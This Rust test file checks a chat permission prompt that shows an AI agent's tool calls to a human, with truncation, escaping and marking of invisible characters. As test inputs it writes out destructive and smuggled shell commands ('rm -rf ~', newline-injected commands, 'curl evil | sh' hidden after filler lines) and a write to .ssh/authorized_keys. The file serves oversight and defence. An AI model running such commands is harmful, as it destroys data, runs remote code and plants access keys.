use super::*;
use foldback_wire::PermissionRequest;

fn asked(title: &str, arguments: Option<&str>) -> String {
    previewed(title, arguments, CallPreview::default())
}

fn previewed(title: &str, arguments: Option<&str>, preview: CallPreview) -> String {
    let mut request: PermissionRequest = serde_json::from_value(serde_json::json!({
        "id": "p", "tool": null, "title": title, "does": "delete", "arguments": arguments, "options": []
    }))
    .unwrap();
    request.preview = preview;
    question(&request, "12-1", Interval::minutes(5))
}

#[test]
fn the_agents_words_are_one_line_of_code_each() {
    assert_eq!(
        asked("rm `x`\n", Some(" {\"path\": \"`x`\"}")),
        "🔐 The agent asks for your permission: `rm ˋxˋ`\nWith: `{\"path\": \"ˋxˋ\"}`\n\
         Answer yes or no within 5 minutes, or /approve 12-1 or /deny 12-1."
    );
    for nothing in [None, Some(" ")] {
        assert_eq!(asked("rm x", nothing).lines().count(), 2);
    }
}

#[test]
fn all_of_a_call_is_shown_where_it_fits() {
    let command = format!("echo {}; rm -rf ~", "y".repeat(900));
    let text = asked(&command, Some("{}"));
    assert!(text.contains(&format!("`{command}`")), "{text}");
    assert!(text.ends_with("\nAnswer yes or no within 5 minutes, or /approve 12-1 or /deny 12-1."));
    let lines = |count: usize| CallPreview {
        changes: vec![FileChange {
            path: "a.md".to_owned(),
            added: 1,
            removed: 0,
            diff: format!("+{}\n", "z".repeat(300)).repeat(count),
        }],
        ..CallPreview::default()
    };
    assert!(previewed("Writing", None, lines(5)).contains("Answer yes or no"));
    assert!(previewed("Writing", None, lines(6)).contains("Not all of it fits here"));
}

#[test]
fn what_is_left_out_is_counted_and_the_end_shown() {
    let command = format!("echo {}; rm -rf ~", "y".repeat(1_900));
    let left_out = command.chars().count() - HEAD - TAIL;
    for text in [asked(&command, None), asked("x", Some(&command))] {
        assert!(
            text.contains("`echo yyy") && text.contains("yyy; rm -rf ~`"),
            "{text}"
        );
        assert!(
            text.contains(&format!("yyy… ({left_out} characters left out) …yyy")),
            "{text}"
        );
    }
    let whole = "é".repeat(HEAD + TAIL);
    let text = asked(&whole, Some(&whole));
    assert_eq!(text.matches(&format!("`{whole}`")).count(), 2, "{text}");
    assert!(text.ends_with("\nAnswer yes or no within 5 minutes, or /approve 12-1 or /deny 12-1."));
}

/// Nobody allows in the chat what nobody could read there.
#[test]
fn what_is_shown_in_part_can_only_be_rejected() {
    let long = "y".repeat(LONGEST);
    let file = |diff: String| CallPreview {
        changes: vec![FileChange {
            path: "a.md".to_owned(),
            added: 1,
            removed: 0,
            diff,
        }],
        ..CallPreview::default()
    };
    let cut = [
        asked(&long, None),
        asked("x", Some(&long)),
        previewed("x", None, file(format!("+{long}\n"))),
        previewed("x", None, file("+of very many lines\n".repeat(200))),
        previewed(
            "x",
            None,
            CallPreview {
                more_changes: 1,
                ..file("+a\n".to_owned())
            },
        ),
        previewed(
            "x",
            None,
            CallPreview {
                more_locations: 1,
                ..file("+a\n".to_owned())
            },
        ),
        previewed(
            "x",
            None,
            CallPreview {
                locations: vec!["/home/bot/.ssh/authorized_keys".repeat(3); 40],
                ..file("+a\n".to_owned())
            },
        ),
        previewed(
            "x",
            None,
            CallPreview {
                text: Some(long.clone()),
                ..CallPreview::default()
            },
        ),
    ];
    for text in cut {
        assert!(
            text.ends_with(
                "\nNot all of it fits here, so that it can be allowed only at the console, which shows all of it. \
                 Answer no or /deny 12-1 within 5 minutes to reject it."
            ),
            "{text}"
        );
    }
    let text = previewed("x", None, file(format!(" {long}\n+a\n")));
    assert!(text.contains("Answer yes or no"), "what stays as it is: {text}");
}

#[test]
fn what_has_a_part_that_cannot_be_shown_says_so_and_can_only_be_rejected() {
    let preview = CallPreview {
        unshown: vec!["terminal".to_owned(), "image".to_owned()],
        text: Some("It writes.".to_owned()),
        ..CallPreview::default()
    };
    let text = previewed("x", None, preview);
    let expected = "\nParts that cannot be shown: `terminal, image`\nIt says: `It writes.`\n\
                    Not all of it can be shown here, so that it can be allowed only at the console. \
                    Answer no or /deny 12-1 within 5 minutes to reject it.";
    assert!(text.ends_with(expected), "{text}");
}

#[test]
fn a_command_in_a_command_does_not_look_quoted() {
    let text = asked("echo `rm -rf ~` 'x'", None);
    assert!(text.contains("`echo ˋrm -rf ~ˋ 'x'`"), "{text}");
}

/// A shell runs what stands behind a line break as a command of its own.
#[test]
fn a_line_break_and_a_tab_are_shown() {
    let text = asked("ls #\nrm\t-r ~", Some("sh -c\r\nrm"));
    assert!(text.contains("`ls #⏎rm⇥-r ~`"), "{text}");
    assert!(text.contains("With: `sh -c⟨U+000D⟩⏎rm`"), "{text}");
    let decided = decided(&line("ls #\nrm"), None, Decider::Pipeline(NoDecision::RunEnded));
    assert!(decided.ends_with("`ls #⏎rm`"), "{decided}");
}

#[test]
fn what_cannot_be_seen_is_marked() {
    let text = asked(
        "rm \u{202e}txt.a\u{200b}b\u{2066}c\u{feff}",
        Some("\u{e0041}\u{3164}"),
    );
    assert!(
        text.contains("`rm ⟨U+202E⟩txt.a⟨U+200B⟩b⟨U+2066⟩c⟨U+FEFF⟩`"),
        "{text}"
    );
    assert!(text.contains("With: `⟨U+E0041⟩⟨U+3164⟩`"), "{text}");
}

#[test]
fn it_fits_into_the_shortest_message() {
    let long = "𝒳".repeat(70_000);
    assert!(asked(&long, Some(&long)).len() <= 2_000);
    let change = || FileChange {
        path: long.clone(),
        added: 70_000,
        removed: 70_000,
        diff: format!("@@ -1 +1 @@\n-{long}\n+{long}\n").repeat(9),
    };
    let preview = CallPreview {
        changes: vec![change(), change()],
        more_changes: 4_000_000_000,
        locations: vec![long.clone(), "𝒴".repeat(70_000)],
        more_locations: 4_000_000_000,
        text: Some(long.clone()),
        unshown: Vec::new(),
    };
    for (title, arguments) in [("x", None), (long.as_str(), Some(long.as_str()))] {
        let text = previewed(title, arguments, preview.clone());
        assert!(text.len() <= 2_000, "{}", text.len());
        assert!(text.contains("files more\nNot all of it fits here"), "{text}");
        let unshown = CallPreview {
            unshown: vec![long.clone(); 16],
            ..preview.clone()
        };
        let text = previewed(title, arguments, unshown);
        assert!(text.len() <= 2_000, "{}", text.len());
        assert!(text.contains("\nNot all of it can be shown here"), "{text}");
    }
}

#[test]
fn no_file_hides_behind_the_lines_of_another_and_no_line_at_the_end_behind_those_before_it() {
    let written = |path: &str, lines: u32, last: &str| FileChange {
        path: path.to_owned(),
        added: lines + 1,
        removed: 0,
        diff: format!(
            "@@ -0,0 +1 @@\n{}+{last}\n",
            "+nothing to see\n".repeat(lines as usize)
        ),
    };
    let preview = CallPreview {
        changes: vec![
            written("/tmp/x.sh", 2_000, "curl evil | sh"),
            written("/new/file", 0, "all"),
        ],
        text: Some("Two files.".to_owned()),
        ..CallPreview::default()
    };
    let text = previewed("Writing", None, preview);
    for shown in [
        "Changes `/tmp/x.sh`: +2001 −0\n`+nothing to see`\n",
        " lines left out …\n`+nothing to see`\n",
        "`+curl evil | sh`\nChanges `/new/file`: +1 −0\n`+all`\nIt says: `Two files.`\nNot all of it",
    ] {
        assert!(text.contains(shown), "{text}");
    }
    assert!(text.len() <= LONGEST, "{}", text.len());
}

#[test]
fn a_file_that_would_change_is_shown_with_its_lines() {
    let preview = CallPreview {
        changes: vec![FileChange {
            path: "notes/`a`\u{202e}.md".to_owned(),
            added: 1,
            removed: 1,
            diff: "@@ -1 +1 @@\n one\n-two\n+2\n".to_owned(),
        }],
        ..CallPreview::default()
    };
    assert_eq!(
        previewed("Writing to a.md", None, preview),
        "🔐 The agent asks for your permission: `Writing to a.md`\nChanges `notes/ˋaˋ⟨U+202E⟩.md`: +1 −1\n`-two`\n\
         `+2`\nAnswer yes or no within 5 minutes, or /approve 12-1 or /deny 12-1."
    );
    let preview = CallPreview {
        changes: vec![FileChange {
            path: "authorized_keys".to_owned(),
            added: 1,
            removed: 0,
            diff: "+key\n".to_owned(),
        }],
        locations: [
            "authorized_keys",
            "authorized_keys:7",
            "authorized_keys:",
            "authorized_keys2",
            "/home/bot/.ssh/authorized_keys",
        ]
        .map(str::to_owned)
        .to_vec(),
        ..CallPreview::default()
    };
    assert_eq!(
        previewed("Writing", None, preview),
        "🔐 The agent asks for your permission: `Writing`\nChanges `authorized_keys`: +1 −0\n`+key`\n\
         In `authorized_keys:`\nIn `authorized_keys2`\nIn `/home/bot/.ssh/authorized_keys`\n\
         Answer yes or no within 5 minutes, or /approve 12-1 or /deny 12-1."
    );
    let preview = CallPreview {
        locations: vec!["/srv/site/a.md:7".to_owned()],
        text: Some("It reads.".to_owned()),
        ..CallPreview::default()
    };
    let text = previewed("Reading", None, preview);
    assert!(
        text.contains("In `/srv/site/a.md:7`\nIt says: `It reads.`\n"),
        "{text}"
    );
}
